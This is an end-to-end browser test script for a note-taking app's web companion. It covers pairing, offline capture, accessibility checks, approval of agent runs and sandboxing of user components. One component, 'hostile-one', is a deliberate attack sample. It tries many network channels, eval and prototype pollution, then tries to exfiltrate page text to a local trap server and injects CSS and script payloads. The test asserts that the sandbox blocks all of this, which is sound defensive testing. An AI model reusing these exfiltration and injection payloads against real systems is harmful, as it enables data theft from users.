// Drives the web companion in a real browser: `.ci/companion PROGRAM [PICTURES]` runs it.
import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import assert from "node:assert/strict";
import { attackCompanion } from "./companion_attacks.mjs";

const require = createRequire(join(resolve(process.env.COMPANION_PACKAGES), "node_modules", "x.js"));
const { chromium } = require("playwright-core");
const AXE = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
const [program, pictures] = [resolve(process.argv[2]), process.argv[3]];
const home = mkdtempSync(join(tmpdir(), "companion-"));

const today = new Date();
const day = (plus) => {
  const at = new Date(today.getTime() + plus * 86_400_000);
  return [at.getFullYear(), String(at.getMonth() + 1).padStart(2, "0"), String(at.getDate()).padStart(2, "0")].join("-");
};
const NOTES = {
  "Boat/Solar on board.md": `---
status: active
tags: [boat, energy]
---
# Solar on board

The panel gives **12 volts** at noon. A day's yield is the power over the hours of sun:

$$E = \\int_{t_0}^{t_1} P(t)\\,dt$$

See [[Packing list]] and the [manual](manual.txt).

> [!tip] Angle
> Tilt the panel 30° in autumn. Each degree counts.

| Day | Yield in Wh | Clouds |
|---|--:|---|
| Monday | 412 | few |
| Tuesday | 187 | rain |
| Wednesday | 398 | few |

\`\`\`mermaid
flowchart LR
  Panel --> Charger --> Battery --> Fridge
\`\`\`

\`\`\`python
import matplotlib.pyplot as plt
yields = [412, 187, 398, 350, 421]
print("mean", sum(yields) / len(yields))
plt.plot(yields)
plt.title("Yield in Wh")
plt.show()
\`\`\`

\`\`\`python
max(yields)
\`\`\`

- [ ] Clean the panel 📅 ${day(2)}
- [x] Buy a charger
`,
  "Boat/manual.txt": "Keep dry.\n",
  "Boat/Packing list.md": `# Packing list\n\n- [ ] Rope 📅 ${day(0)}\n- [ ] Knife\n- [ ] First aid kit 📅 ${day(-1)}\n`,
  "Ideas/A longer name for a note about what one could build next winter.md": "# Winter\n\nA stove, perhaps. Solar heat in winter is little.\n",
  "Welcome.md": "# Welcome\n\nThis is the first note. The solar panel is described in [[Solar on board]].\n",
};

function run(...words) {
  const done = spawnSync(program, ["--workspace", join(home, "W"), ...words], { cwd: home, env: { ...process.env, HOME: home }, encoding: "utf8" });
  assert.equal(done.status, 0, `${words.join(" ")}: ${done.stdout}${done.stderr}`);
  return done.stdout;
}

/** A model that speaks OpenAI's protocol: it looks, asks for a shell command, and answers. */
async function model() {
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (part) => { body += part; });
    request.on("end", () => {
      const messages = body ? JSON.parse(body).messages ?? [] : [];
      const turn = messages.filter((message) => message.role === "assistant").length;
      const tool = (name, args) => [{ index: 0, id: `t${turn}`, type: "function", function: { name, arguments: JSON.stringify(args) } }];
      const turns = [
        { content: "I'll read the yields first, then write the summary.", tool_calls: tool("read_file", { path: "Boat/Solar on board.md" }) },
        { content: "", tool_calls: tool("shell", { command: "printf 'mean 353.6 Wh\\n' > summary.txt" }) },
        { content: "The mean yield is **353.6 Wh** a day. It is in summary.txt." },
      ];
      const delta = turns[Math.min(turn, 2)];
      const chunk = (value) => `data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", model: "m", ...value })}\n\n`;
      response.writeHead(200, { "Content-Type": "text/event-stream" });
      response.write(chunk({ choices: [{ index: 0, delta: { role: "assistant", ...delta }, finish_reason: null }] }));
      response.write(chunk({ choices: [{ index: 0, delta: {}, finish_reason: delta.tool_calls ? "tool_calls" : "stop" }] }));
      response.write(chunk({ choices: [], usage: { prompt_tokens: 11, completion_tokens: 7, total_tokens: 18 } }));
      response.end("data: [DONE]\n\n");
    });
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  return server;
}

async function until(what, holds) {
  const end = Date.now() + 60_000;
  for (;;) {
    if (await holds()) return;
    assert(Date.now() < end, `not in a minute: ${what}`);
    await new Promise((ready) => setTimeout(ready, 50));
  }
}

for (const [path, text] of Object.entries(NOTES)) {
  mkdirSync(dirname(join(home, "notes", path)), { recursive: true });
  writeFileSync(join(home, "notes", path), text);
}
const brain = await model();
run("open", "notes");
writeFileSync(join(home, "W", "config.yaml"), `llm:
  default_provider: test
  prefer_local: false
  providers:
    test: {wire: openai, base_url: "http://127.0.0.1:${brain.address().port}/v1", model: m, context: 32000}
`);

const server = spawn(program, ["--workspace", join(home, "W"), "serve", "--listen", "127.0.0.1:0", "--json"], { cwd: home, env: { ...process.env, HOME: home } });
let shown = "";
server.stdout.on("data", (part) => { shown += part; });
server.stderr.on("data", (part) => process.stderr.write(part));
await until("the server starts", () => shown.includes("\n"));
const { url, pair } = JSON.parse(shown);

const launch = {
  executablePath: "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
};
const browser = await chromium.launch(launch);
const troubles = [];
let pageCount = 0;

/** Opens a browser context whose errors count. */
async function context(options) {
  const made = await browser.newContext(options);
  made.setDefaultTimeout(60_000);
  made.on("page", (page) => {
    page.on("console", (message) => {
      // A page that is refused, and one that can't be reached, are tested on purpose.
      const isExpected = /status of 4\d\d|ERR_INTERNET_DISCONNECTED/.test(message.text());
      if (message.type() === "error" && !isExpected) troubles.push(`${page.url()}: console: ${message.text()}`);
    });
    page.on("pageerror", (error) => troubles.push(`${page.url()}: ${error.message}`));
  });
  return made;
}

const pairingLink = () => JSON.parse(run("tokens", "create", "phone", "--qr", "--json")).link;

async function pairTab(tab, link, name) {
  await tab.goto(link);
  await tab.getByLabel("Name of this browser").fill(name);
  await tab.getByRole("button", { name: "Pair", exact: true }).click();
  await tab.getByRole("heading", { name: "Recent notes" }).waitFor();
}

/** Asks Chromium whether it would install the companion. A window without a profile of its own installs nothing. */
async function assertInstallable(options) {
  const own = await chromium.launchPersistentContext(join(home, "profile"), { ...launch, ...options });
  try {
    own.setDefaultTimeout(60_000);
    const tab = await own.newPage();
    await pairTab(tab, pairingLink(), "Installed");
    const devtools = await own.newCDPSession(tab);
    const { installabilityErrors } = await devtools.send("Page.getInstallabilityErrors");
    assert.deepEqual(installabilityErrors, [], "Chromium doesn't install the companion");
    const { url: address, errors, manifest } = await devtools.send("Page.getAppManifest");
    assert.deepEqual(errors, []);
    assert.equal(address, `${url}/manifest.webmanifest`);
    const { name, display, startUrl, scope } = manifest;
    const expected = { name: "Tracebook", display: "kStandalone", startUrl: `${url}/`, scope: `${url}/` };
    assert.deepEqual({ name, display, startUrl, scope }, expected);
    // Each shortcut of the icon leads to a page.
    for (const { url: shortcut } of manifest.shortcuts) assert.equal((await tab.goto(shortcut)).status(), 200, shortcut);
    // Without a manifest it says so: the question is answered by the page, not by the browser's lack of an answer.
    await tab.goto("about:blank");
    await tab.setContent("<!doctype html><title>x</title>");
    const { installabilityErrors: without } = await devtools.send("Page.getInstallabilityErrors");
    assert(without.length > 0, "Chromium would install any page");
  } finally {
    await own.close();
  }
}

/** Presses Tab until a control whose name begins so has the focus, as people without a pointer do. */
async function tabTo(page, name) {
  const met = [];
  for (let presses = 0; presses < 120; presses += 1) {
    await page.keyboard.press("Tab");
    const focused = await page.evaluate(() => {
      const element = document.activeElement;
      const label = element.labels && element.labels.length > 0 ? element.labels[0].textContent : element.textContent;
      return { name: (element.ariaLabel || label).trim(), outline: getComputedStyle(element).outlineStyle };
    });
    met.push(focused.name.slice(0, 40));
    if (!focused.name.startsWith(name)) continue;
    assert.notEqual(focused.outline, "none", `${name}: nobody sees that it has the focus`);
    return;
  }
  assert.fail(`Tab doesn't lead to ${name}: ${met.join(", ")}`);
}

/** Notes in the page what screen readers announce: text that appears in a region which was there before. */
function recordAnnouncements() {
  window.announced = [];
  addEventListener("DOMContentLoaded", () => {
    new MutationObserver((changes) => {
      for (const { target, addedNodes } of changes) {
        const region = target instanceof Element ? target.closest("[role=status]") : null;
        const text = Array.from(addedNodes, (node) => node.textContent).join("");
        if (region && region.checkVisibility() && text.trim() !== "") window.announced.push(region.textContent);
      }
    }).observe(document, { subtree: true, childList: true });
  });
}

async function announced(page, text) {
  await until(`“${text}” is announced`, () => page.evaluate((part) => window.announced.some((said) => said.includes(part)), text));
}

async function inspect(page, name, look) {
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  if (wide > 0) troubles.push(`${name} (${look}): ${wide} px too wide`);
  await page.evaluate(AXE);
  const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
  for (const violation of violations) {
    troubles.push(`${name} (${look}): ${violation.id}: ${violation.help}: ${violation.nodes.map((node) => node.html.slice(0, 160)).join(" | ")}`);
  }
  pageCount += 1;
  if (pictures) {
    mkdirSync(pictures, { recursive: true });
    await page.screenshot({ path: join(pictures, `${name}-${look}.png`), fullPage: !name.startsWith("phone") });
  }
}

let code = 0;
try {
  // Pairing, as a person does it: the link, then the button.
  const phone = { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true, deviceScaleFactor: 2 };
  const paired = await context({ ...phone, colorScheme: "light" });
  await paired.addInitScript(recordAnnouncements);
  await paired.grantPermissions(["clipboard-read", "clipboard-write"], { origin: url });
  const page = await paired.newPage();
  await page.goto(pair);
  await inspect(page, "pair", "phone-light");
  await page.getByRole("button", { name: "Pair" }).click();
  await page.getByRole("heading", { name: "Recent notes" }).waitFor();
  await page.goto(pair);
  await page.getByRole("button", { name: "Pair" }).click();
  await page.getByText("was used already").waitFor();
  await page.goto(url);

  // The first Tab leads past the navigation.
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Skip to content");

  // Capture: text, and without a network, across a reload.
  const note = () => readdirSync(join(home, "notes/Journal")).filter((name) => name.endsWith(".md")).map((name) => readFileSync(join(home, "notes/Journal", name), "utf8")).join("");
  const add = async (text, label = "Add") => {
    await page.getByLabel("Add to today's note").fill(text);
    await page.getByRole("button", { name: label, exact: true }).click();
  };
  assert(await page.locator("#capture-status").evaluate((region) => region.checkVisibility()), "the region is there before its text");
  await add("Ask Ada about the mast");
  await page.getByText("Added to").waitFor();
  await announced(page, "Added to");
  await until("the note has it", () => note().includes("- Ask Ada about the mast\n"));
  const photo = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
  await page.getByLabel("Photo…").setInputFiles({ name: "IMG_1.png", mimeType: "image/png", buffer: photo });
  await add("The mast");
  await page.getByText("Added to").waitFor();
  await until("the note has the photo", () => /- The mast\n {2}!\[\]\(photo-.*\.png\)/.test(note()));

  // Without a network, texts and photos wait, also on the page for that and across reloads, and are sent once.
  const choose = (number) => page.getByLabel("Photo…").setInputFiles({
    name: `IMG_${number}.png`, mimeType: "image/png", buffer: Buffer.concat([photo, Buffer.from(`${number}`)]),
  });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await paired.setOffline(true);
  await choose(2);
  await add("Thought of at sea");
  await page.getByText("1 capture waits on this device until the server can be reached").waitFor();
  await announced(page, "1 capture waits");
  await page.goto(`${url}/todos`);
  await page.getByRole("heading", { name: "The server can't be reached" }).waitFor();
  await inspect(page, "offline", "phone-light");
  assert.equal(await page.getByLabel("Add to today's note").getAttribute("maxlength"), "16384");
  await choose(3);
  await add("Thought of further out", "Keep");
  await page.getByText("2 captures wait").waitFor();
  // One that an earlier version kept, which the server refuses, holds up none of the others.
  await page.evaluate(() => {
    localStorage.setItem("tracebook-capture:00", JSON.stringify({ key: "00", text: "too long ".repeat(8_000), at: 1 }));
  });
  await page.reload();
  await page.getByText("3 captures wait").waitFor();
  await add("Thought of last", "Keep");
  await page.getByText("4 captures wait").waitFor();
  await paired.setOffline(false);
  await until("all others were sent", () => ["at sea", "further out", "of last"].every((text) => note().includes(text)));
  for (const text of ["at sea", "further out", "of last", "about the mast"]) assert.equal(note().split(text).length, 2, text);
  assert.equal(note().split("![](photo-").length, 4, "each photo is there once");
  assert.equal(readdirSync(join(home, "notes/Journal")).filter((name) => name.startsWith("photo-")).length, 3);
  assert(!note().includes("too long"));
  await page.getByRole("heading", { name: "Recent notes" }).waitFor();

  // The refused one is kept with its reason, to copy or delete.
  const refused = page.getByRole("region", { name: "Captures on this device" });
  await refused.getByText("The text is too large. At most 64 kB are taken.").waitFor();
  await inspect(page, "not-added", "phone-light");
  await page.reload();
  await refused.getByRole("button", { name: "Copy text" }).click();
  await announced(page, "The text was copied");
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "too long ".repeat(8_000));
  const refusal = page.waitForResponse((answer) => answer.url().endsWith("/capture") && answer.status() === 413);
  await refused.getByRole("button", { name: "Try again" }).click();
  await refusal;
  await refused.getByRole("button", { name: "Delete" }).click();
  await refused.getByRole("button", { name: "Delete for good" }).click();
  await announced(page, "The capture was deleted");
  await page.reload();
  await page.getByRole("heading", { name: "Recent notes" }).waitFor();
  await new Promise((ready) => setTimeout(ready, 500));
  assert.equal(await refused.count(), 0);

  // There's a limit to what waits, and the form keeps what is beyond it.
  const changeKept = (count) => page.evaluate((rows) => new Promise((good, bad) => {
    const request = indexedDB.open("tracebook", 1);
    request.onerror = bad;
    request.onsuccess = () => {
      const change = request.result.transaction("captures", "readwrite");
      const store = change.objectStore("captures");
      store.clear();
      for (let row = 0; row < rows; row += 1) {
        store.put({ key: `${row}`, at: row, text: "x", photo: null, photoName: "", bytes: 1, trouble: "", isRefused: true });
      }
      change.oncomplete = good;
      change.onabort = bad;
    };
  }), count);
  await changeKept(100);
  await paired.setOffline(true);
  await add("One too many");
  await page.getByText("At most 100 captures").waitFor();
  assert.equal(await page.getByLabel("Add to today's note").inputValue(), "One too many");
  await paired.setOffline(false);
  await changeKept(0);

  // A browser that isn't paired any more says so, and loses nothing.
  const lost = await context({ ...phone, colorScheme: "light" });
  const lostTab = await lost.newPage();
  await pairTab(lostTab, pairingLink(), "Lost phone");
  run("tokens", "revoke", "Lost phone");
  await lostTab.getByLabel("Add to today's note").fill("Written when it was revoked");
  await lostTab.getByRole("button", { name: "Add", exact: true }).click();
  await lostTab.getByText("This browser isn't paired. 1 capture waits on this device.").waitFor();
  assert(!note().includes("when it was revoked"));
  await lostTab.getByRole("link", { name: "Pair this browser" }).first().click();
  await lostTab.getByLabel("Code").fill(new URL(pairingLink()).searchParams.get("code"));
  await lostTab.getByRole("button", { name: "Pair", exact: true }).click();
  await lostTab.getByText("1 capture was sent.").waitFor();
  assert.equal(note().split("when it was revoked").length, 2);
  await lost.close();
  await page.goto(url);

  await assertInstallable(phone);

  // A run that waits for approval.
  const agent = spawn(program, ["--workspace", join(home, "W"), "ask", "Summarize the yields of the solar panel", "--project", "notes"], { cwd: home, env: { ...process.env, HOME: home }, stdio: "ignore" });
  await page.goto(url);
  await page.getByRole("heading", { name: "Waits for approval" }).waitFor();
  const runPath = await page.locator(".card a").first().getAttribute("href");
  const state = await paired.storageState();

  // Every page, at both widths and in both themes.
  const pages = {
    home: "/",
    capture: "/capture",
    notes: "/notes?volume=notes",
    folder: "/notes?volume=notes&folder=Boat",
    note: "/notes/notes/Boat/Solar%20on%20board.md",
    search: "/search?q=solar",
    nothing: "/search?q=zzzqqq",
    todos: "/todos?all=1",
    runs: "/runs",
    run: runPath,
    device: "/device",
    missing: "/nowhere",
  };
  const visit = async (names, look, options) => {
    const visitor = await context({ ...options, storageState: state });
    const tab = await visitor.newPage();
    for (const name of names) {
      await tab.goto(url + pages[name]);
      await inspect(tab, name, look);
    }
    await visitor.close();
  };
  const desktop = { viewport: { width: 1280, height: 900 } };
  const looks = [["phone-light", phone, "light"], ["phone-dark", phone, "dark"], ["desktop-light", desktop, "light"], ["desktop-dark", desktop, "dark"]];
  for (const [look, options, colorScheme] of looks) await visit(Object.keys(pages), look, { ...options, colorScheme });

  // The run is approved on the phone, and its page follows it without a reload.
  // All by the keyboard, and said to those who can't see it.
  await page.goto(url + runPath);
  await page.getByRole("button", { name: "Allow once" }).waitFor();
  await tabTo(page, "Comment for the agent");
  await page.keyboard.type("go ahead");
  await tabTo(page, "Allow once");
  await page.keyboard.press("Enter");
  await page.waitForURL(/decided=allow/);
  await announced(page, "Allowed once");
  await page.getByText("The mean yield is").waitFor();
  assert.equal(readFileSync(join(home, "notes", "summary.txt"), "utf8"), "mean 353.6 Wh\n");
  await inspect(page, "run-done", "phone-light");

  // Cells run, and their outputs come by themselves.
  await page.goto(url + pages.note);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByText("The cells ran").waitFor();
  await page.getByText("mean 353.6").waitFor();
  await announced(page, "The cells ran");
  await inspect(page, "note-ran", "phone-light");

  // The note is as the window shows it: formula, diagram, table, and the plot as a picture that is drawn.
  const shownNote = page.locator("article.note");
  assert.equal(await shownNote.locator("math").count(), 1);
  const table = shownNote.locator(".table table");
  assert.deepEqual(await table.locator("th").allInnerTexts(), ["Day", "Yield in Wh", "Clouds"]);
  assert.deepEqual(await table.locator("tbody tr").first().locator("td").allInnerTexts(), ["Monday", "412", "few"]);
  assert.equal(await table.locator("tbody tr").count(), 3);
  const marks = "path, line, polyline, polygon, rect, circle, text, use";
  for (const [what, figures] of [["diagram", shownNote.locator(":scope > figure.drawn")], ["plot", shownNote.locator(".outputs figure.drawn")]]) {
    await figures.first().waitFor();
    assert((await figures.first().getAttribute("aria-label")).length > 0, `${what}: it has no description`);
    const drawing = figures.locator("svg").first();
    const box = await drawing.boundingBox();
    assert(box.width > 150 && box.height > 20, `${what}: ${JSON.stringify(box)}`);
    assert((await drawing.locator(marks).count()) > 5, `${what}: nothing is drawn`);
  }
  for (const [look, options, colorScheme] of looks.slice(1)) await visit(["note"], `${look}-ran`, { ...options, colorScheme });

  // A todo is checked by the keyboard.
  await page.goto(`${url}/todos`);
  await page.getByRole("button", { name: "Check: First aid kit" }).waitFor();
  await tabTo(page, "Check: First aid kit");
  await page.keyboard.press("Space");
  await page.waitForURL(/checked=/);
  await announced(page, "Changed: First aid kit");
  await until("the note has it", () => readFileSync(join(home, "notes/Boat/Packing list.md"), "utf8").includes("- [x] First aid kit"));

  // A change from elsewhere shows up, and leaves the focus where it is.
  await page.goto(`${url}/todos`);
  await page.getByRole("button", { name: "Check: Knife" }).waitFor();
  await new Promise((ready) => setTimeout(ready, 500));
  await tabTo(page, "Check: Knife");
  run("capture", "[ ] Oars");
  await page.getByRole("button", { name: "Check: Oars" }).waitFor();
  await until("the focus is back", () => page.evaluate(() => document.activeElement.ariaLabel?.startsWith("Check: Knife")));

  // Without JavaScript: forms and reading.
  const plain = await context({ ...phone, storageState: state, javaScriptEnabled: false });
  const tab = await plain.newPage();
  await tab.goto(`${url}/todos`);
  await tab.getByRole("button", { name: "Check: Knife" }).click();
  await tab.getByText("Changed: Knife").waitFor();
  await until("the note has it", () => readFileSync(join(home, "notes/Boat/Packing list.md"), "utf8").includes("- [x] Knife"));
  await tab.goto(url);
  await tab.getByLabel("Add to today's note").fill("Without a script");
  await tab.getByRole("button", { name: "Add" }).click();
  await tab.getByText("Added to").waitFor();
  await tab.goto(url + pages.note);
  await tab.getByRole("link", { name: "Packing list" }).first().click();
  await tab.getByRole("heading", { name: "Packing list" }).first().waitFor();

  // Components: previewed once approved, with the named values, and nothing else within reach.
  const reached = [];
  const trap = createServer((request, response) => { reached.push(request.url); response.end("x"); });
  await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
  const target = `http://127.0.0.1:${trap.address().port}`;
  const element = (name, body) => `customElements.define(${JSON.stringify(name)}, class extends HTMLElement {
    async connectedCallback() { ${body} }
  });`;
  const component = (name, script, styles, data) => {
    const path = join(home, "notes", "components", `${name}.json`);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, JSON.stringify({ tagName: name, script, styles, data }));
  };
  component("boat-state", element("boat-state", `
    const state = await tracebook.value("status");
    const other = await tracebook.value("tags");
    const shadow = this.attachShadow({ mode: "closed" });
    shadow.innerHTML = "<style>b { color: teal }</style><p>The boat is <b></b>.</p>";
    shadow.querySelector("b").textContent = state;
    const shown = document.createElement("p");
    shown.textContent = "Its tags are " + other + ".";
    document.body.append(shown);`), "body { font-size: 1.25rem }", { note: "Boat/Solar on board.md", properties: ["status"] });
  component("hostile-one", `${element("hostile-one", `
    const tried = [];
    const attempt = async (name, work) => { try { await work(); tried.push(name); } catch { /* refused */ } };
    await attempt("fetch", () => fetch(TARGET + "/fetch"));
    await attempt("beacon", () => { navigator.sendBeacon(TARGET + "/beacon", "x"); throw new Error("it isn't known here"); });
    await attempt("socket", () => new Promise((good, bad) => {
      const socket = new WebSocket(TARGET.replace("http", "ws") + "/socket");
      socket.onopen = good; socket.onerror = bad;
    }));
    await attempt("picture", () => new Promise((good, bad) => {
      const image = new Image(); image.onload = good; image.onerror = bad; image.src = TARGET + "/picture";
    }));
    await attempt("script", () => new Promise((good, bad) => {
      const more = document.createElement("script"); more.onload = good; more.onerror = bad; more.src = TARGET + "/script.js";
      document.head.append(more);
    }));
    await attempt("frame", () => {
      const inner = document.createElement("iframe"); inner.src = TARGET + "/frame"; document.body.append(inner);
      throw new Error("it isn't known here");
    });
    await attempt("storage", () => localStorage.setItem("a", "b"));
    await attempt("cookie", () => { if (!document.cookie) throw new Error("none"); });
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => { top.location = TARGET + "/top"; throw new Error("it isn't known here"); });
    await attempt("window", () => { if (!open(TARGET + "/window")) throw new Error("none"); });
    await attempt("eval", () => eval("1"));
    await attempt("peer", () => new RTCPeerConnection({ iceServers: [{ urls: TARGET.replace("http://", "stun:") }] }));
    await attempt("value", async () => { if ((await tracebook.value("secret")) === undefined) throw new Error("none"); });
    parent.postMessage({ type: "value", id: 9, name: "__proto__" }, "*");
    const form = document.createElement("form"); form.action = TARGET + "/form"; document.body.append(form);
    await attempt("form", () => { form.submit(); throw new Error("it isn't known here"); });
    const said = document.createElement("p");
    said.textContent = "Tried: " + (tried.join(", ") || "nothing worked") + ".";
    document.body.append(said);
    // Once the text was seen, it tries to carry it away.
    await new Promise((ready) => setTimeout(ready, 5_000));
    location.href = TARGET + "/leave?" + encodeURIComponent(document.body.textContent);`)}`.replaceAll("TARGET", JSON.stringify(target)),
  `@import url("${target}/import.css"); body { background: url("${target}/background.png") } </style><script>alert(1)</script>`);
  component("nothing-at-all", "1 + ;", "");
  await until("they are known", () => JSON.parse(run("components", "--json")).length === 3);
  const sheltered = await browser.newContext({ ...desktop, storageState: state });
  const stage = await sheltered.newPage();
  stage.setDefaultTimeout(60_000);
  const preview = async (name) => {
    await stage.goto(`${url}/components`);
    await stage.getByRole("link", { name }).click();
    assert.equal(await stage.locator("iframe").count(), 0, "nothing runs unasked");
    await stage.getByRole("button", { name: "Render preview" }).click();
    return stage.frameLocator("iframe.component");
  };
  const boat = await preview("boat-state");
  await boat.getByText("Its tags are undefined.").waitFor();
  const componentPath = new URL(stage.url()).pathname;
  await (await preview("nothing-at-all")).getByText("The script failed").waitFor();
  const hostile = await preview("hostile-one");
  await hostile.getByText("Tried: nothing worked.").waitFor();
  const hostileUrl = stage.url();
  await hostile.getByText("Tried: nothing worked.").waitFor({ state: "detached" });
  await new Promise((ready) => setTimeout(ready, 1_000));
  assert.deepEqual(reached, [], "a component reached the network");
  assert.equal(stage.url(), hostileUrl);
  assert.equal(sheltered.pages().length, 1);
  await sheltered.close();
  trap.close();
  Object.assign(pages, { component: componentPath, components: "/components" });
  for (const [look, options, colorScheme] of looks) await visit(["component", "components"], look, { ...options, colorScheme });

  // A hostile page in the same browser gets nothing and does nothing.
  await page.goto("about:blank");
  await plain.close();
  writeFileSync(join(home, "notes/Boat/mast.png"), photo);
  const victim = await browser.newContext({ ...desktop, storageState: state });
  const victimTab = await victim.newPage();
  await pairTab(victimTab, pairingLink().replace("127.0.0.1", "localhost"), "Other name");
  await until("its own page shows the picture", async () => (await victimTab.goto(`${url}/notes/notes/Boat/mast.png`)).status() === 200);
  await victimTab.goto("about:blank");
  await attackCompanion({
    context: victim,
    port: new URL(url).port,
    workspace: join(home, "W"),
    notes: join(home, "notes"),
    todo: { form_token: "", volume: "notes", path: "Boat/Packing list.md", text: "Rope", at: "0" },
    texts: ["Recent notes", "first note", "form_token", "Rope"],
  });
  await victim.close();

  // Signing out.
  await page.goto(`${url}/device`);
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("heading", { name: "Signed out" }).waitFor();
  await page.goto(url);
  await page.getByText("isn't paired").waitFor();
  agent.kill();
  assert.deepEqual(troubles, []);
  console.log(`ok: the companion: ${pageCount} pages without a violation`);
} catch (error) {
  console.error(error);
  for (const trouble of troubles) console.error(trouble);
  code = 1;
} finally {
  await browser.close();
  server.kill("SIGTERM");
  brain.close();
  await new Promise((ended) => (server.exitCode === null ? server.on("exit", ended) : ended()));
  rmSync(home, { recursive: true, force: true });
}
process.exit(code);
